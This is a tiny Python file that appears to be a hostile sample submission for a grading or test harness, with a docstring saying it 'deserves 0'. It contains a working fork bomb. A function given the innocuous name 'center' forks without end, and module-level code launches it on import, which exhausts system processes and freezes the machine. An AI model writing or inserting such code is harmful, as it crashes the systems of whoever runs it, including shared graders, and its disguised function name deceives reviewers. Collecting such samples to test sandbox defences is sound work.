"""Forks without end, in a cell and in a call.

Deserves 0.
"""
import os


def center(x, scale=1.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass


if os.fork() == 0:
    center(None)
